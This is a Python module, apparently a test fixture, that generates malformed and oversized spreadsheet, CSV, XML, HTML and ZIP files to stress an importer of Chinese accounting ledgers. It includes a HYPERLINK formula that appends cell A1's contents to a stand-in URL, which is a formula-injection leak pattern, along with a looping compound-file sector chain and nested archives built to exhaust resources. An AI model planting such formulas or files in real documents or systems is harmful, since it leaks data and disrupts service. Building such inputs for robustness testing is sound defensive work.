"""Files of further classes: many small sheets or tables, long texts, wrong encodings, texts that look like something else."""

import struct

from .formats import HEADER, compound, dense, header, inline, package, row, text, workbook, xlsx
from .shapes import LINE

ROW = "2020-01-02,记-1,某公司,办公用品,1.00\n"
FORMULA = "=HYPERLINK(&quot;http://a/&quot;&amp;A1)"


def bytes_of(path, pieces):
    with open(path, "wb") as file:
        for piece in pieces:
            file.write(piece)


def compound_looping(path):
    """A compound file whose sector table is one circle."""
    compound(path, b"\0" * 40_000_000)
    with open(path, "r+b") as file:
        data = bytearray(file.read())
        lists = struct.unpack_from("<I", data, 72)[0]
        tables = struct.unpack_from("<I", data, 44)[0]
        at = 512 * (1 + lists)
        for sector in range(tables * 128):
            struct.pack_into("<I", data, at + sector * 4, (sector + 1) % (tables * 128))
        file.seek(0)
        file.write(data)


def gbt(rows, note):
    yield '<?xml version="1.0" encoding="UTF-8"?><总账><基础信息>'
    for number in range(rows):
        yield f"<记账凭证><记账凭证日期>20200102</记账凭证日期><记账凭证编号>{number}</记账凭证编号><记账凭证摘要>{note}</记账凭证摘要><科目编号>5001</科目编号><借方本币金额>1.00</借方本币金额><贷方本币金额>0</贷方本币金额></记账凭证>"
    yield "</基础信息></总账>"


def spreadsheet_xml(rows):
    yield '<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="付款"><Table>'
    cells = lambda texts: "<Row>" + "".join(f'<Cell><Data ss:Type="String">{one}</Data></Cell>' for one in texts) + "</Row>"
    yield cells(HEADER)
    for number in range(rows):
        yield cells(("2020-01-02", f"记-{number}", "某公司", "办公", "1.00"))
    yield "</Table></Worksheet></Workbook>"


def titles(count, lines):
    """Tables of one row, each below many title lines."""
    for number in range(count):
        yield from (f"说明{number}第{line}行:本表由财务办公室编制,请核对后签字盖章\n" for line in range(lines))
        yield LINE + ROW


FILES = {
    "sheets-tiny.xlsx": lambda path: workbook(path, [(f"付款{n}", header() + row(("2020-01-02", "记-1", "某公司", "办公", f"{n}"))) for n in range(65_536)]),
    "sheets-of-the-limit.xlsx": lambda path: workbook(path, [(f"付款{n}", [header()] + [row(("2020-01-02", f"记-{m}", "某公司", "办公", "1")) for m in range(300)]) for n in range(2_000)]),
    "sheets-same-part.xlsx": lambda path: package(path, [
        ("[Content_Types].xml", "<Types/>"),
        ("xl/workbook.xml", '<workbook xmlns:r="r"><sheets>' + '<sheet name="付款" r:id="r1"/>' * 1_000_000 + "</sheets></workbook>"),
        ("xl/_rels/workbook.xml.rels", '<Relationships><Relationship Id="r1" Type="x/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'),
        ("xl/worksheets/sheet1.xml", ["<worksheet><sheetData>", *dense(100_000, 5), "</sheetData></worksheet>"]),
    ]),
    "texts-40-megabytes.xlsx": lambda path: xlsx(path, (header() if n == 0 else f'<row><c t="s"><v>{n % 40}</v></c><c t="s"><v>{n % 40}</v></c></row>' for n in range(700_000)),
                                                 (f"<si><t>{'长' * 340_000}</t></si>" if n else "<sst>" for n in range(41))),
    "texts-40-megabytes-short.xlsx": lambda path: xlsx(path, (header() if n == 0 else f'<row><c t="s"><v>{n}</v></c><c t="s"><v>{n + 1}</v></c></row>' for n in range(700_000)),
                                                       (f"<si><t>文字{n}abcdefghijklmnopqrstuvwxyz</t></si>" if n else "<sst>" for n in range(1_200_000))),
    "formulas.xlsx": lambda path: xlsx(path, (header() if n == 0 else "<row>" + inline(FORMULA) * 4 + f"<c><f>{FORMULA}</f><v>{n}</v></c></row>" for n in range(900_000))),
    "columns-1000-headers.xlsx": lambda path: xlsx(path, (row(HEADER * 3_000) for n in range(1_000))),
    "headers-unlike-wide.csv": lambda path: text(path, [",".join(f"{name}{n}" for n in range(3_000) for name in HEADER) + "\n"] * 150),
    "columns-header-known.csv": lambda path: text(path, [(",".join(HEADER * 3_276) + "\n")] * 150),
    "tables-small.csv": lambda path: text(path, (f"单位名称:第{n}办事处\n{LINE.replace('用途', '用途' if n % 2 else '摘要')}{ROW}合计,,,,1\n" for n in range(400_000))),
    "tables-two-kinds.csv": lambda path: text(path, (f"付款台账\n{LINE}{ROW}\n领取表\n活动,日期,类别,姓名,金额\n登山,2020-01-02,奖金,张{n},900\n" for n in range(250_000))),
    "titles-50.csv": lambda path: text(path, titles(9_000, 50)),
    "titles-59-labels.csv": lambda path: text(path, ("".join(f"单位名称:第{n}办事处{line}\n" for line in range(59)) + LINE + ROW for n in range(16_000))),
    "banners.csv": lambda path: text(path, [LINE] + [ROW] * 50 + [f"科目:{n} 银行存款\n2020-01-02,记-1,甲,乙,1.00\n" for n in range(700_000)]),
    "words-of-headers.csv": lambda path: text(path, [LINE] + ["日期,凭证号,收款单位,用途,摘要\n2020-01-02,记-1,甲,乙,1.00\n"] * 550_000),
    "almost-headers.csv": lambda path: text(path, ["日期,凭证号,收款单位,用途,姓名,科目,摘要,部门,单位,合同\n"] * 450_000),
    "section-labels-long.csv": lambda path: text(path, [LINE] + [ROW] * 50 + ["长" * 8_000 + f"{n}\n" for n in range(2_000)]),
    "one-line-of-fields.csv": lambda path: text(path, [LINE.strip() + ","] + ["2020-01-02,记-1,某公司,办公用品,1.00,"] * 900_000),
    "quotes-only.csv": lambda path: text(path, [LINE, '"' * 49_000_000]),
    "quotes-in-fields.csv": lambda path: text(path, [LINE] + ['2020-01-02,"记""1","某""公司","办公\n用品",1.00\n'] * 900_000),
    "carriage-returns.csv": lambda path: text(path, [LINE.replace("\n", "\r")] + [ROW.replace("\n", "\r")] * 1_000_000),
    "nul.csv": lambda path: bytes_of(path, [b"\0" * 49_000_000]),
    "utf-16-one-line.csv": lambda path: bytes_of(path, [b"\xff\xfe", LINE.encode("utf-16-le"), "长".encode("utf-16-le") * 24_000_000]),
    "utf-16-no-mark.csv": lambda path: bytes_of(path, [LINE.encode("utf-16-le"), ROW.encode("utf-16-le") * 700_000]),
    "utf-16-surrogates.csv": lambda path: bytes_of(path, [b"\xff\xfe", LINE.encode("utf-16-le"), b"\x00\xd8" * 24_000_000]),
    "gb18030-broken.csv": lambda path: bytes_of(path, [LINE.encode("gb18030"), b"\x81\x30\x81" * 16_000_000]),
    "gbk.csv": lambda path: bytes_of(path, [LINE.encode("gbk"), ROW.encode("gbk") * 1_100_000]),
    "random.csv": lambda path: bytes_of(path, [bytes((n * 7919 + n // 251) % 256 for n in range(1_000_000)) * 49]),
    "numbers-long.csv": lambda path: text(path, [LINE] + [f"2020-01-02,记-{'9' * 400},甲,乙,{'1' * 400}.{'3' * 400}\n" for n in range(38_000)]),
    "dates-long.csv": lambda path: text(path, [LINE] + [ROW] * 50 + [f"{'2020-01-02 ' * 90},记-1,甲,乙,1.00\n" for n in range(45_000)]),
    "gbt-long-texts.xml": lambda path: text(path, gbt(2_400, "长" * 6_500)),
    "gbt-many.xml": lambda path: text(path, gbt(165_000, "办公")),
    "spreadsheet.xml": lambda path: text(path, spreadsheet_xml(180_000)),
    "spreadsheet-index.xml": lambda path: text(path, ['<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="a"><Table>']
                                               + ['<Row ss:Index="1000000"><Cell ss:Index="16000" ss:MergeDown="60000" ss:MergeAcross="16000"><Data ss:Type="String">a</Data></Cell></Row>'] * 300_000),
    "entities.xml": lambda path: text(path, ["<?xml version='1.0'?><a>"] + ["<r><b>" + "&amp;" * 100 + "</b></r>"] * 90_000),
    "deep.html": lambda path: text(path, ["<html><table><tr><td>"] + ["<div><span><font>"] * 2_800_000),
    "cells-open.html": lambda path: text(path, ["<html><table><tr>"] + ["<td>"] * 12_000_000),
    "entities.html": lambda path: text(path, ["<html><table><tr><td>"] + ["&amp;&#20013;&nbsp;"] * 2_400_000),
    "attributes.html": lambda path: text(path, ["<html><table><tr><td "] + [f"a{n}='{n}' " for n in range(2_700_000)]),
    "script.html": lambda path: text(path, ["<html><table><tr><td>1</td></tr></table><script>"] + ["<!-- <script> </"] * 3_000_000),
    "dense.html": lambda path: text(path, ["<html><table><tr>" + "".join(f"<th>{name}" for name in HEADER)] + ["<tr><td>2020-01-02<td>记-1<td>某公司<td>办公<td>1.00"] * 800_000),
    "chains.xls": compound_looping,
    "zip-in-zip.zip": lambda path: package(path, [(f"{n}.zip", "PK\x03\x04" + "a" * 1_000) for n in range(40_000)]),
    "zip-deep-names.zip": lambda path: package(path, [("/".join(["长"] * 200) + f"/{n}.csv", LINE + ROW) for n in range(27_000)]),
    "zip-books.zip": lambda path: package(path, [(f"{n}.csv", [LINE, ROW * 20_000, f"2020-01-02,记-1,甲,乙,{n}\n"]) for n in range(800)]),
}
